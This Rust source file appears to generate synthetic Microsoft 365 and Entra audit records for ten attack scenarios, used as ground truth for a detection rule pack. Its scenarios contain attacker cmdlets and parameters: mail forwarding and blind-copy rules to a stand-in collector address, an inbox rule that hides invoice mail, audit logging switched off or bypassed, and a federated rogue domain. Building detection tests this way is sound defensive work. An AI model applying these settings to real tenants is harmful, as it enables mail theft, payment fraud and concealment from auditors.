//! Ten attacks in the month: the truth that the rule pack is measured against.
//!
//! Guarantee: each tale is a chain of named steps in the order of time, by one attacker, on the accounts it names, and
//! all its records lie inside the month. Addresses are of 203.0.113.0/24, which no honest person has, a few for each
//! tale; what is common to two tales is a matter of chance, as with strangers. The shapes are this crate's own.

use chrono::{DateTime, TimeDelta, Utc};
use serde_json::json;

use crate::dice::Dice;
use crate::month::{Edit, Month, is_resting, opening};
use crate::people::{ATTACKER_BROWSER, Person, Session};
use crate::records::entra::{self, Outcome};
use crate::records::mailbox::{self, Access, BindShape, Client, INBOX, Message, RuleChange, SENT_ITEMS};
use crate::records::{defender, sharepoint};
use crate::{Record, Step};

/// One attack.
#[derive(Debug, Clone)]
pub struct Tale {
    pub name: &'static str,
    /// Accounts that the attacker held.
    pub victims: Vec<String>,
    pub steps: Vec<Step>,
    pub(crate) records: Vec<Record>,
}

/// Tales begin when baselines have seen two weeks, and have a day or two each.
const FIRST_DAY: u64 = 14;
const COLLECTOR: &str = "archive.box@mail.example.org";

type Plot = fn(&mut Telling<'_>);

const PLOTS: [(&str, Plot); 10] = [
    ("invoice fraud", invoice_fraud),
    ("spray and forward", spray_and_forward),
    ("stolen session", stolen_session),
    ("illicit consent", illicit_consent),
    ("new administrator", new_administrator),
    ("application key", application_key),
    ("leaver", leaver),
    ("tired of prompts", tired_of_prompts),
    ("transport rule", transport_rule),
    ("foreign federation", foreign_federation),
];

pub(crate) fn tell(month: &Month) -> Vec<Tale> {
    PLOTS.iter().enumerate().map(|(number, (name, plot))| Telling::tell(month, number, name, *plot)).collect()
}

struct Telling<'m> {
    month: &'m Month,
    dice: Dice,
    at: DateTime<Utc>,
    victim: &'m Person,
    session: Session,
    tale: Tale,
}

impl<'m> Telling<'m> {
    fn tell(month: &'m Month, number: usize, name: &'static str, plot: Plot) -> Tale {
        let mut dice = Dice::new(month.seed, "tale", number as u64);
        let mut day = FIRST_DAY + number as u64 * 14 / 10;
        while is_resting(day) {
            day += 1;
        }
        let victim = &month.office.staff[20 + number * 47 + dice.index(40)];
        let ip = format!("203.0.113.{}", 10 + number * 20 + dice.index(15));
        let session = Session { id: dice.guid(), ip, browser: &ATTACKER_BROWSER };
        let at = opening(day) + TimeDelta::minutes(dice.between(100, 260));
        let tale = Tale { name, victims: vec![victim.user_name.clone()], steps: Vec::new(), records: Vec::new() };
        let mut telling = Telling { month, dice, at, victim, session, tale };
        plot(&mut telling);
        telling.tale
    }

    fn wait(&mut self, low: i64, high: i64) {
        self.at += TimeDelta::minutes(self.dice.between(low, high));
    }

    fn step(&mut self, name: &'static str, mut records: Vec<Record>) {
        for record in &mut records {
            record.malicious = true;
        }
        self.tale.steps.push(Step { name, record_ids: records.iter().map(|record| record.id.clone()).collect() });
        self.tale.records.append(&mut records);
        self.wait(4, 25);
    }

    fn signed(&mut self, person: &Person, outcome: &Outcome, seconds: i64) -> Record {
        let (tenant, flow) = (&self.month.office.tenant, self.dice.guid());
        let at = self.at + TimeDelta::seconds(seconds);
        entra::sign_in(tenant, &mut self.dice, at, (person, &self.session), outcome, &flow)
    }

    fn sign_in(&mut self) {
        let records = [&entra::SECOND_FACTOR_DEMANDED, &entra::KEPT_SIGNED_IN, &entra::SIGNED_IN]
            .into_iter()
            .enumerate()
            .map(|(turn, outcome)| self.signed(self.victim, outcome, turn as i64 * 11))
            .collect();
        self.step("sign-in", records);
    }

    fn read(&mut self, client: Client<'_>, count: i64) {
        let session = self.session.clone();
        let access = Access { person: self.victim, session: &session, client };
        let mut records = Vec::new();
        for turn in 0..count {
            let at = self.at + TimeDelta::minutes(turn * 2);
            let messages = self.month.messages(&mut self.dice, 10, 40);
            let folders = [(INBOX, messages)];
            let tenant = &self.month.office.tenant;
            records.push(mailbox::bind(tenant, &mut self.dice, at, access, BindShape::Newer, &folders));
        }
        self.at += TimeDelta::minutes(count * 2);
        self.step("mail read", records);
    }

    fn send(&mut self, count: i64, subject: &str) {
        let session = self.session.clone();
        let access = Access { person: self.victim, session: &session, client: Client::Web };
        let mut records = Vec::new();
        for turn in 0..count {
            let message = Message::new(&mut self.dice, subject);
            let at = self.at + TimeDelta::seconds(turn * 6);
            records.push(mailbox::send(&self.month.office.tenant, &mut self.dice, at, access, &message));
        }
        self.at += TimeDelta::seconds(count * 6);
        self.step("mail sent", records);
    }

    fn cmdlet(&mut self, name: &'static str, what: (&str, &str), parameters: &[(&str, &str)]) {
        let who = (self.victim, self.session.ip.as_str(), self.session.id.as_str());
        let record = self.month.cmdlet(&mut self.dice, self.at, who, what, parameters);
        self.step(name, vec![record]);
    }

    fn edit(&mut self, name: &'static str, edits: Vec<Edit<'_>>) {
        let ip = self.session.ip.clone();
        let mut records = Vec::new();
        for (turn, edit) in edits.into_iter().enumerate() {
            let at = self.at + TimeDelta::seconds(turn as i64 * 7);
            let edit = edit.from(&ip).with(&ATTACKER_BROWSER);
            records.push(self.month.edit(&mut self.dice, at, self.victim, edit));
        }
        self.step(name, records);
    }
}

fn invoice_fraud(t: &mut Telling<'_>) {
    let click = defender::link_click(
        &t.month.office.tenant,
        &mut t.dice,
        t.at,
        (t.victim, &t.victim.office_ip),
        "https://statement.example.org/open",
    );
    t.step("link opened", vec![click]);
    t.sign_in();
    t.read(Client::Web, 12);
    let object = format!("{}\\,", t.victim.alias);
    let parameters = [
        ("Force", "False"),
        ("SubjectOrBodyContainsWords", "transfer;iban;invoice"),
        ("Name", ","),
        ("MoveToFolder", "Conversation History"),
        ("MarkAsRead", "True"),
        ("StopProcessingRules", "True"),
    ];
    t.cmdlet("inbox rule", ("New-InboxRule", &object), &parameters);
    t.send(9, "RE: transfer, our account has changed");
}

fn spray_and_forward(t: &mut Telling<'_>) {
    let mut records = Vec::new();
    for turn in 0..60 {
        let person = &t.month.office.staff[turn * 8 + 3];
        let outcome = if turn % 2 == 0 { &entra::WRONG_PASSWORD } else { &entra::WRONG_PASSWORD_CALLED_SUCCESS };
        records.push(t.signed(person, outcome, turn as i64 * 40));
    }
    t.step("spray", records);
    t.wait(41, 60);
    let signed = vec![t.signed(t.victim, &entra::SIGNED_IN, 0)];
    t.step("sign-in", signed);
    let target = format!("smtp:{COLLECTOR}");
    let alias = t.victim.alias.clone();
    let parameters =
        [("Identity", alias.as_str()), ("ForwardingSmtpAddress", &target), ("DeliverToMailboxAndForward", "True")];
    t.cmdlet("forwarding", ("Set-Mailbox", &alias), &parameters);
}

/// The victim's own session, taken by a proxy: same session id, another network and system.
fn stolen_session(t: &mut Telling<'_>) {
    let id = t.session.id.clone();
    let own = Session { id, ip: t.victim.office_ip.clone(), browser: t.victim.browser };
    let flow = t.dice.guid();
    let tenant = &t.month.office.tenant;
    let first = entra::sign_in(tenant, &mut t.dice, t.at, (t.victim, &own), &entra::SIGNED_IN, &flow);
    t.step("session taken", vec![first]);
    let second = vec![t.signed(t.victim, &entra::SIGNED_IN, 0)];
    t.step("session used", second);
    let (victim, name) = (t.victim, t.victim.user_name.clone());
    let edit = Edit::new("User registered security info", "UserManagement", &name).on(victim);
    t.edit("second factor added", vec![edit]);
    let session = t.session.clone();
    let access = Access { person: t.victim, session: &session, client: Client::Desktop };
    let rule = RuleChange::Add {
        name: "...",
        condition: "{}",
        actions: json!([{"ActionType": "Delete", "DeleteAction": "MoveToDeletedItems"}]),
    };
    let record = mailbox::update_inbox_rules(&t.month.office.tenant, &mut t.dice, t.at, access, &rule);
    t.step("inbox rule", vec![record]);
    t.send(140, "A document was shared with you");
}

fn illicit_consent(t: &mut Telling<'_>) {
    let (application, service) = (t.dice.guid(), t.dice.guid());
    let names = [("Mail Backup Helper", 1), (application.as_str(), 2), (application.as_str(), 4)];
    let target = entra::target("ServicePrincipal", &service, &names);
    let permissions = "[] => [[Id: a, ConsentType: Principal, Scope:  Mail.ReadWrite Mail.Send offline_access, \
                       CreatedDateTime: , LastModifiedDateTime ]]; ";
    let edits = vec![
        Edit::new("Add service principal.", "ServicePrincipal", &application).at(target.clone()),
        Edit::new("Add delegated permission grant.", "ServicePrincipal", &application)
            .at(target.clone())
            .set("DelegatedPermissionGrant.Scope", "Mail.ReadWrite Mail.Send offline_access")
            .set("DelegatedPermissionGrant.ConsentType", "Principal"),
        Edit::new("Consent to application.", "ServicePrincipal", &application)
            .at(target)
            .set("ConsentContext.IsAdminConsent", "False")
            .set("ConsentContext.OnBehalfOfAll", "False")
            .set("ConsentAction.Permissions", permissions),
    ];
    t.edit("consent", edits);
    t.read(Client::App(&application), 15);
}

fn new_administrator(t: &mut Telling<'_>) {
    t.sign_in();
    let name = format!("svc.backup@{}", t.month.office.tenant.domain);
    t.edit("user added", vec![Edit::new("Add user.", "UserManagement", &name)]);
    let edit = Edit::new("Add member to role.", "RoleManagement", &name)
        .set("Role.DisplayName", "\"Global Administrator\"")
        .set("Role.TemplateId", "\"62e90394-69f5-4237-9190-012177145e10\"");
    t.edit("role given", vec![edit]);
    let parameters = [("UnifiedAuditLogIngestionEnabled", "False")];
    t.cmdlet("audit off", ("Set-AdminAuditLogConfig", "Admin Audit Log Settings"), &parameters);
}

fn application_key(t: &mut Telling<'_>) {
    t.sign_in();
    let (application, object) = (t.dice.guid(), t.dice.guid());
    let target = entra::target("ServicePrincipal", &object, &[("Archive connector", 1), (&application, 2)]);
    let key =
        format!("[\r\n  \"[KeyIdentifier={},KeyType=Password,KeyUsage=Verify,DisplayName=k]\"\r\n]", t.dice.guid());
    let edit = Edit::new("Add service principal credentials.", "ServicePrincipal", &object)
        .at(target)
        .set("KeyDescription", &key);
    t.edit("key added", vec![edit]);
    t.read(Client::App(&application), 30);
}

/// No stranger: from the own desk, with the own computer, in the last days of a contract.
fn leaver(t: &mut Telling<'_>) {
    t.session = Session { id: t.dice.guid(), ip: t.victim.home_ip.clone(), browser: t.victim.browser };
    let session = t.session.clone();
    for (name, operation, count) in [("files taken", "FileDownloaded", 900), ("files removed", "FileDeleted", 350)] {
        let mut records = Vec::new();
        for turn in 0..count {
            let at = t.at + TimeDelta::seconds(turn * 3);
            let tenant = &t.month.office.tenant;
            records.push(sharepoint::file(tenant, &mut t.dice, at, (t.victim, &session), operation));
        }
        t.at += TimeDelta::seconds(count * 3);
        t.step(name, records);
    }
}

fn tired_of_prompts(t: &mut Telling<'_>) {
    let records = (0..14).map(|turn| t.signed(t.victim, &entra::SECOND_FACTOR_TIMED_OUT, turn * 55)).collect();
    t.step("prompts", records);
    t.wait(10, 14);
    t.sign_in();
    let device = t.dice.guid();
    let edits = vec![
        Edit::new("Add device.", "Device", &device).at(entra::target("Device", &device, &[("DESKTOP-7Q", 1)])),
        Edit::new("Add registered owner to device.", "Device", &device).at(entra::target("Device", &device, &[])),
    ];
    t.edit("device added", edits);
    let session = t.session.clone();
    let access = Access { person: t.victim, session: &session, client: Client::Desktop };
    let records = [INBOX, SENT_ITEMS, "\\Archive"]
        .into_iter()
        .map(|path| mailbox::sync(&t.month.office.tenant, &mut t.dice, t.at, access, path))
        .collect();
    t.step("mail synchronised", records);
}

fn transport_rule(t: &mut Telling<'_>) {
    t.sign_in();
    let parameters = [("Name", "Journal 2"), ("BlindCopyTo", COLLECTOR), ("Priority", "0")];
    t.cmdlet("transport rule", ("New-TransportRule", "Journal 2"), &parameters);
    let name = t.victim.user_name.clone();
    let parameters = [("Identity", name.as_str()), ("AuditBypassEnabled", "True")];
    t.cmdlet("audit bypassed", ("Set-MailboxAuditBypassAssociation", &name), &parameters);
}

fn foreign_federation(t: &mut Telling<'_>) {
    t.sign_in();
    let domain = "login.example.org";
    let target = vec![(domain.to_owned(), 1)];
    let edits = vec![
        Edit::new("Add unverified domain.", "DirectoryManagement", domain).at(target.clone()),
        Edit::new("Verify domain.", "DirectoryManagement", domain).at(target.clone()),
        Edit::new("Set domain authentication.", "DirectoryManagement", domain)
            .at(target)
            .set("LiveType", &entra::listed("Federated")),
    ];
    t.edit("domain federated", edits);
    let edit = Edit::new("Set federation settings on domain.", "DirectoryManagement", domain)
        .set("IssuerUri", &entra::listed("urn:login.example.org"));
    t.edit("federation settings", vec![edit]);
    t.session = Session { id: t.dice.guid(), ..t.session.clone() };
    t.sign_in();
}
